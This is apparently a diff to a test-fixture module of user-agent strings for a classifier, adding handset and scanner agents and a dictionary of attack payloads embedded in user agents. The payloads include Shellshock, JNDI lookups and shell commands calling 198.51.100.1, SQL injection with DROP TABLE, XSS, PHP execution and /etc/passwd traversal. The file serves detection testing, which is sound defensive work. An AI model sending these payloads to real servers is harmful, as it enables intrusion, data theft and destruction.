@@ -54,6 +54,12 @@ PEOPLE = (
     # Handsets whose names are bots' words.
     f"Mozilla/5.0 (Linux; Android 6.0; CUBOT MAX) {_WEBKIT} Chrome/72.0.0.0 Mobile Safari/537.36",
     f"Mozilla/5.0 (Linux; Android 7.0; M bot 60) {_WEBKIT} Chrome/58.0.0.0 Mobile Safari/537.36",
+    f"Mozilla/5.0 (Linux; Android 9; X20 PRO; wv) {_WEBKIT} Chrome/101.0.4951.61 Mobile "
+    "Safari/537.36 Instagram 237.0.0.7.102 Android (28/9; 480dpi; 1080x2115; CUBOT; X20 PRO)",
+    f"Mozilla/5.0 (Linux; Android 5.1; S550; wv) {_WEBKIT} Chrome/74.0.3729.157 Mobile "
+    "Safari/537.36 [FBAN/FB4A;FBAV/520.0.0.45.90;FBBD/CUBOT;FBDV/CUBOT X19;FBSV/9;]",
+    "CUBOT_NOTE_S/1.0 Linux/3.10.72 Android/5.1 Release/11.2.2015 Browser/AppleWebKit537.36",
+    "Dalvik/2.1.0 (Linux; U; Android; CUBOT_P20 Build/O11019)",
     "Mozilla/5.0 (Linux; U; Android 4.3; en-us; HTC_Butterfly Build/JSS15J) AppleWebKit/534.30 "
     "(KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
     # Apps with a browser in them.
@@ -139,6 +145,7 @@ BOTS = {
         "DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)",
         "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/132.0.0.0 Safari/537.36; NobodysAI-User/1.0",
+        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; Amzn-User/0.1) Chrome/119.0.0.0 Safari/537.36",
     ),
     "seo": (
         "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
@@ -164,6 +171,15 @@ BOTS = {
         "Mozilla/5.0 zgrab/0.x",
         "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
         "sqlmap/1.8.4#stable (https://sqlmap.org)",
+        "w3af.org",
+        "Mozilla/5.0 (compatible; w3af/1.7)",
+        f"{_WINDOWS} Chrome/41.0.2228.0 Safari/537.21 netsparker",
+        "Mozilla/5.0 (Windows NT 6.1; WOW64) Acunetix",
+        "acunetix_wvs_security_test",
+        "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
+        "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
+        "gobuster/3.1.0",
+        "Fuzz Faster U Fool v2.1.0",
     ),
     "tool": (
         "curl/8.5.0",
@@ -190,3 +206,59 @@ BOTS = {
     ),
 }
 """By class."""
+
+ATTACKS = {
+    "carries a shell function (Shellshock)": (
+        "() { :;}; /bin/bash -c 'id'",
+        "() { ignored; }; echo Content-Type: text/html",
+    ),
+    "carries a look-up or an expression (JNDI, EL, OGNL)": (
+        "${jndi:ldap://198.51.100.1/a}",
+        "${${lower:j}ndi:${lower:l}dap://198.51.100.1/a}",
+        "%24%7Bjndi:dns://198.51.100.1%7D",
+        "%{(#_='multipart/form-data')}",
+    ),
+    "carries template code": ("{{7*7}}", "<%= 7 * 7 %>", "{% debug %}"),
+    "carries SQL": (
+        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
+        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
+        "1 UNION ALL SELECT NULL,NULL",
+        "'; WAITFOR DELAY '0:0:15'--",
+        "Mozilla/5.0' AND 1=1",
+        "x'; DROP TABLE visits",
+    ),
+    "carries a script or markup (cross-site scripting)": (
+        "<script>alert(1)</script>",
+        r"\x22><svg/onload=alert(1)>",
+        "%3Cscript%3E",
+        "<img src=x onerror=fetch(1)>",
+        "javascript:x",
+    ),
+    "carries program code": (
+        "<?php system('id'); ?>",
+        'Mozilliqa"<?=print(9347655345-4954366);?>"',
+        r"}__test|O:21:\"JDatabaseDriverMysqli\":3",
+        "php://input",
+    ),
+    "asks for a file outside of the site": (
+        "../../../../etc/passwd",
+        r"..\\..\\windows",
+        "%2e%2e%2fetc%2fpasswd",
+        "Mozilla/5.0 (Laravel Reaver .env Presence)",
+    ),
+    "carries an XML document type or entity (XXE)": (
+        "<!DOCTYPE x>",
+        "<!ENTITY x SYSTEM 'x'>",
+    ),
+    "carries a shell command": (
+        "$(curl 198.51.100.1)",
+        "; wget http://198.51.100.1/x",
+        "| ping -c 10 127.0.0.1",
+        "/bin/sh",
+    ),
+    "carries a header of its own (CRLF injection)": ("x%0d%0aSet-Cookie: a=b",),
+    "carries an LDAP filter": ("*)(uid=*",),
+    "calls back to a scanner's server": ("http x.bxss.me", "a.b.oast.fun"),
+    "names an attack": ("exploit-check", "pentest"),
+}
+"""Attacks in user agents, by what the verdict says of them."""
